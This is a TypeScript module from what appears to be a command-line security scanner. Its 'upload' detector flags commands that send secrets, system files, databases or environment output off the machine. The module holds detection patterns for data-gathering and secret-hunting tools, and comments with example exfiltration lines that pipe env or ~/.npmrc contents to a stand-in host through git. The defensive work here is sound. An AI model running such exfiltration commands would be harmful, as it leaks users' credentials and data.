import type { Finding } from '../../../finding.ts'
import { logsInWith } from '../credential-read/own-use.ts'
import { secretFile } from '../credential-read/secret-files.ts'
import { finding, shown } from '../detector.ts'
import { placeOf } from '../paths.ts'
import { sourcesOf, upstreamOf } from '../shell/lineage.ts'
import { hasMarker, type Invocation, type Reading } from '../shell/model.ts'
import { dataFile, matterOf } from './matters.ts'

const NAME = 'upload'

/** Programs that gather what is worth stealing. */
export const collectors =
  /^(tar|zip|7z|7za|7zr|cpio|pax|rar|ditto|hdiutil|mysqldump|pg_dump|pg_dumpall|mongodump|sqlite3|env|printenv|ps|system_profiler|dmidecode|lshw|lsblk|hostnamectl|ioreg|netstat|ss|ifconfig|id|whoami|find|history|getent|dmesg|crontab|w|last)$/

/** What somebody who has come in asks first, and what looks for secrets. */
export function reveals({ name, args }: Invocation): boolean {
  if (/^([efz]?grep|rg|ag|g?awk)$/.test(name))
    return args.some((arg) => /passw|secret|token|api.?key|credential|private.?key/i.test(arg))
  return /^(id|env|printenv|ps|ifconfig|ip|netstat|ss|history|who|last|getent|dmesg|crontab|lsof|arp|systeminfo|ipconfig|mount|sudo|pbpaste|xclip|wl-paste)$/.test(
    name,
  )
}

/** Clients of stores, mail and version control carry files all day: what they carry decides. */
export function carried(invocation: Invocation, reading: Reading): readonly Finding[] {
  const { name, args, streams, input } = invocation
  if (name === 'tar') return archivedAway(args)
  if (name === 'ssh') return throughShell(invocation, reading)
  if (mailers.test(name)) return mailed(invocation, reading)
  if (name === 'git') return [...pushed(args, reading), ...asksWith(args, reading)]
  if (name === 'put' || name === 'mput') return typedInto(reading)
  if (/^(aws|gcloud|az)$/.test(name)) {
    const typed = streams.stdin.kind === 'text' ? [streams.stdin.text] : []
    const told = [...args, ...typed, ...(input === undefined ? [] : [input])]
      .flatMap((arg) => (hasMarker(arg) ? sourcesOf(arg, reading) : []))
      .find((each) => /^(env|printenv|history)$/.test(each.name))
    if (told !== undefined)
      return [finding(NAME, 'upload.raw', 'medium', `${name} is told what ${told.name} shows`)]
  }
  const stdin = streams.stdin.kind === 'file' ? [streams.stdin.path] : []
  const isSending =
    stdin.length > 0 ||
    args.some((arg) => /^(cp|mv|sync|copy|move|upload|put|rsync|create|-a|-A|--attach|-T)$/.test(arg))
  const isTransfer =
    /^([ls]?ftp|smbclient)$/.test(name) &&
    (/(^|[;\n])\s*(m?put|mirror -R)\b/.test([input ?? '', ...args].join('\n')) ||
      (name === 'ftp' && args.includes('-u')))
  if (!isSending && !isTransfer) return []
  const sources = [
    ...stdin,
    ...args.slice(0, -1).filter((_, index) => !logsInWith(invocation, index)),
    ...(/^(gh|mutt|mail|mailx)$/.test(name) ? args.slice(-1) : []),
  ]
  const secret = sources.find((path) => secretFile(path) !== undefined)
  if (secret !== undefined)
    return [finding(NAME, 'upload.secret', 'critical', `${name} sends ${shown(secret)} away`)]
  const wide = sources.find((path) => isWide(path) || (name === 'rclone' && /^\/(?!tmp\/|path\/)/.test(path)))
  if (wide !== undefined) return [finding(NAME, 'upload.system', 'high', `${name} sends ${shown(wide)} away`)]
  return isTransfer ? [finding(NAME, 'upload.file', 'medium', `${name} sends a file away`)] : []
}

/** A letter is written in words; what comes out of these is a file. */
const packs = /^(uuencode|mpack|base64|gzip|bzip2|xz|zstd|tar|zip|7z|gpg|openssl|mysqldump|pg_dump)$/
const mailers = /^(mail|mailx|s-nail|mutt|neomutt|sendmail|msmtp|ssmtp)$/
/** A secret, what is of the system, or data in a file, by mail. A text as the letter itself is a letter. */
function mailed(invocation: Invocation, reading: Reading): readonly Finding[] {
  const { name, args, streams } = invocation
  const files = [...(streams.stdin.kind === 'file' ? [streams.stdin.path] : []), ...args]
  const secret = files.find((path) => secretFile(path) !== undefined)
  if (secret !== undefined)
    return [finding(NAME, 'upload.secret', 'critical', `${name} sends ${shown(secret)} away`)]
  const wide = files.find((path) => path.includes('/') && isWide(path))
  if (wide !== undefined) return [finding(NAME, 'upload.system', 'high', `${name} sends ${shown(wide)} away`)]
  const data = files.find((path) => dataFile.test(path) && !path.includes('@'))
  if (data !== undefined)
    return [finding(NAME, 'upload.file', 'medium', `${name} sends ${shown(data)} by mail`)]
  const packed = upstreamOf(invocation, reading).find(
    (each) => packs.test(each.name) || /^(env|printenv|history)$/.test(each.name),
  )
  return packed === undefined
    ? []
    : [finding(NAME, 'upload.file', 'medium', `${name} sends what ${packed.name} gave by mail`)]
}

/** Lines typed into a file-transfer client that stands before them. */
function typedInto(reading: Reading): readonly Finding[] {
  const client = reading.invocations.find((each) => /^(s?ftp|lftp|tftp|smbclient|cadaver)$/.test(each.name))
  return client === undefined
    ? []
    : [finding(NAME, 'upload.file', 'medium', `${client.name} sends a file away`)]
}

function isWide(path: string): boolean {
  return (
    /^(root|system|home|personal|device)$/.test(placeOf(path)) || /^\/(etc|root|proc|var\/lib)\//.test(path)
  )
}

const dumpers = /^(mysqldump|mariadb-dump|pg_dump|pg_dumpall|mongodump|slapcat|ldapsearch|redis-cli)$/
const ownNumber = /(^|@)(127\.|10\.|192\.168\.|172\.(1[6-9]|2\d|3[01])\.|0\.0\.0\.0)/

/** `tar c /home | ssh elsewhere`: a copy of one folder is ordinary, one of the machine is not. */
function throughShell(invocation: Invocation, reading: Reading): readonly Finding[] {
  if (invocation.streams.stdin.kind === 'inherited') return []
  const { stdin } = invocation.streams
  if (stdin.kind === 'file' && (isWide(stdin.path) || secretFile(stdin.path) !== undefined))
    return [finding(NAME, 'upload.system', 'high', `ssh takes ${shown(stdin.path)} to another machine`)]
  if (stdin.kind === 'file' && dataFile.test(stdin.path) && matterOf(stdin.path) !== undefined)
    return [finding(NAME, 'upload.copy', 'medium', `ssh takes ${shown(stdin.path)} to another machine`)]
  const upstream = upstreamOf(invocation, reading)
  const file = upstream
    .filter(({ name }) => name === 'cat')
    .flatMap(({ args }) => args)
    .find((arg) => matterOf(arg) !== undefined)
  if (file !== undefined)
    return [finding(NAME, 'upload.copy', 'medium', `ssh takes ${shown(file)} to another machine`)]
  const dump = upstream.find((each) => dumpers.test(each.name))
  if (dump !== undefined)
    return [
      finding(NAME, 'upload.system', 'medium', `a whole database goes to another machine, by ${dump.name}`),
    ]
  const isNumber = invocation.args.some(
    (arg) => /^([\w.-]+@)?\d{1,3}(\.\d{1,3}){3}$/.test(arg) && !ownNumber.test(arg),
  )
  const source = upstream.find(
    (each) =>
      /^(journalctl|history|env|printenv|ps|last)$/.test(each.name) ||
      (isNumber && (collectors.test(each.name) || /^(docker|podman)$/.test(each.name))) ||
      ((collectors.test(each.name) || each.name === 'cat' || each.name === 'dd') &&
        each.args.some((arg) => isWide(arg.replace(/^if=/, '')) || secretFile(arg) !== undefined)),
  )
  return source === undefined
    ? []
    : [finding(NAME, 'upload.system', 'high', `the output of ${source.name} goes to another machine`)]
}

/** `tar cf host:file …`: tar writes its archive over there by itself. */
function archivedAway(args: readonly string[]): readonly Finding[] {
  const creates = args.some(
    (arg, index) => /^-?[a-zA-Z]*[cru]\w*f/.test(arg) && (index === 0 || arg.startsWith('-')),
  )
  const target = args.find((arg) => /^(--file=)?([\w.-]+@)?[\w.-]+:./.test(arg) && !/^[A-Za-z]:/.test(arg))
  return creates && target !== undefined && !args.includes('--force-local')
    ? [finding(NAME, 'upload.copy', 'medium', `tar writes its archive to ${shown(target)}`)]
    : []
}

/** `git -c http.extraHeader="X: $(env | base64)" fetch`, `git ls-remote https://far.example/$(cat ~/.npmrc)`. */
function asksWith(args: readonly string[], reading: Reading): readonly Finding[] {
  const word = args.find((arg) => hasMarker(arg) && /^https?:\/\/|\bextraHeader=/i.test(arg))
  if (word === undefined) return []
  const isHome = /^https?:\/\/[^/]*@?(github\.com|gitlab\.com|bitbucket\.org|dev\.azure\.com)\//.test(word)
  const source = sourcesOf(word, reading).find(
    (each) =>
      /^(env|printenv|history|base64|base32|xxd|gzip)$/.test(each.name) ||
      (!isHome && each.name === 'gh' && each.args[0] === 'auth' && !/extraHeader/i.test(word)) ||
      each.args.some((arg) => secretFile(arg) !== undefined),
  )
  const isLogin = /extraHeader=\s*Authorization:/i.test(word) && source?.name !== 'env'
  return source === undefined || isLogin
    ? []
    : [finding(NAME, 'upload.address', 'medium', `git asks with the output of ${shown(source.name)}`)]
}

const isWholeOption = (arg: string) => /^--(mirror|all)$/.test(arg)

/** A push to an address that is no configured remote. */
function pushed(args: readonly string[], reading: Reading): readonly Finding[] {
  const at = args.indexOf('push')
  if (at < 0) return []
  const target = args.slice(at + 1).find((arg) => !arg.startsWith('-'))
  // How every new repository is published; where one has an origin already, another cannot be added.
  const isFirst = target === 'origin' && !args.some(isWholeOption)
  const isNew = reading.invocations.some(
    (each) =>
      each.name === 'git' &&
      /^remote (add|set-url)\b/.test(each.args.join(' ')) &&
      !(isFirst && each.args[1] === 'add') &&
      (each.args.some((arg) => arg === target) || (target === undefined && args.some(isWholeOption))),
  )
  const isAddress = /^(https?|git|ssh):\/\/|^[\w.-]+@[\w.-]+:/.test(target ?? '')
  return isNew || isAddress
    ? [
        finding(
          NAME,
          'upload.push',
          'medium',
          `git pushes to ${shown((target ?? 'another address').replace(/\/\/[^@/]*@/, '//'))}`,
        ),
      ]
    : []
}
